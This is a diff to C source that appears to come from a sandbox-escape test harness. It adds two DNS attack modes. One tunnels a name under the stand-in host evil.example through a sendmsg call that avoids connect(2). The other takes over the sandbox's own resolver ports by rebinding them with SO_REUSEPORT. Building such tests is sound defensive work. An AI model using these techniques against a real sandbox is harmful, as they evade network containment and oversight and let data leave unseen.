@@ -58,6 +58,30 @@ static enum verdict other_tcp(const struct scene *s)
 	return ask(s, &server, SOCK_STREAM, "evil.example");
 }
 
+/* Without a connect(2) that somebody could refuse. */
+static enum verdict other_sendmsg(const struct scene *s)
+{
+	struct sockaddr_in server = at_port(&s->target4.sin_addr, 53);
+	uint8_t query[512];
+	struct iovec iov = {.iov_base = query};
+	struct msghdr msg = {.msg_name = &server,
+			     .msg_namelen = sizeof(server),
+			     .msg_iov = &iov,
+			     .msg_iovlen = 1};
+	char name[256];
+	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);
+
+	tunnel_name(s, name, sizeof(name), "evil.example");
+	iov.iov_len = dns_message(query, sizeof(query), 1, name, NULL);
+	if (sendmsg(fd, &msg, 0) < 0)
+		return failed("sendmsg");
+	if (recv(fd, query, sizeof(query), 0) < 12)
+		return failed("recv");
+	return (query[3] & 15) == 0 ? say(THROUGH, "%s: answered", name)
+				    : say(REFUSED, "%s: response code %d", name,
+					  query[3] & 15);
+}
+
 /* To the sandbox's own server, which knows whom to ask for evil.example. */
 static enum verdict tunnel(const struct scene *s)
 {
@@ -135,6 +159,46 @@ static enum verdict own_5353(const struct scene *s)
 	return own(s, 5353);
 }
 
+/* Sockets of the sandbox's own machinery are where nobody else bound one. */
+static void take_ports(const struct scene *s)
+{
+	FILE *table = fopen("/proc/net/udp", "re");
+	const int on = 1;
+	unsigned int port;
+	char line[512];
+
+	while (table && fgets(line, sizeof(line), table)) {
+		struct in_addr here = {htonl(INADDR_LOOPBACK)};
+		struct sockaddr_in server;
+		int fd;
+
+		if (sscanf(line, "%*d: %*[0-9A-F]:%x", &port) != 1)
+			continue;
+		server = at_port(&here, (uint16_t)port);
+		fd = new_socket(AF_INET, SOCK_DGRAM, 0);
+		setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
+		setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof(on));
+		if (bind(fd, (const void *)&server, sizeof(server)) == 0 &&
+		    fork() == 0) {
+			answer_for_ever(s, fd);
+			_exit(0);
+		}
+		close(fd);
+	}
+	if (table)
+		fclose(table);
+}
+
+/* Become the sandbox's resolver: where it listens, or where it is asked. */
+static enum verdict takeover(const struct scene *s)
+{
+	struct in_addr here = {htonl(INADDR_LOOPBACK)};
+	struct sockaddr_in server = at_port(&here, 53);
+
+	take_ports(s);
+	return follow(s, &server);
+}
+
 /* The server is the attacker's, outside. */
 static enum verdict theirs(const struct scene *s)
 {
@@ -174,9 +238,11 @@ const struct attack attack_dns = {
 	"dns",
 	(const struct mode[]){{"other-udp", other_udp},
 			      {"other-tcp", other_tcp},
+			      {"other-sendmsg", other_sendmsg},
 			      {"tunnel", tunnel},
 			      {"own-53", own_53},
 			      {"own-5353", own_5353},
+			      {"takeover", takeover},
 			      {"theirs", theirs},
 			      {"resolv.conf", resolv_conf},
 			      {"hosts", hosts},
